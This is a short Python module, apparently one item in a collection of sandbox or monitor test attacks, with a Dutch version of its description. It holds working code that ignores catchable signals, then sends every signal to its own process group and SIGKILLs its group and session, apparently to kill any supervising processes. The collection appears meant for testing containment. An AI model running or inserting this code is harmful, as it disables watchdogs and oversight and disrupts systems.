"""Sends every signal to its own group of processes, in which those that watch over it may be."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Stuurt elk signaal naar zijn eigen groep processen, waarin zijn bewakers kunnen zitten.",
    alone=True,
    code="""
import os, signal
quiet = set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}
for number in quiet:
    signal.signal(number, signal.SIG_IGN)
for number in sorted(quiet):
    os.killpg(0, number)
for group in {os.getpgid(0), os.getsid(0), 0}:
    os.killpg(group, signal.SIGKILL)
""",
)
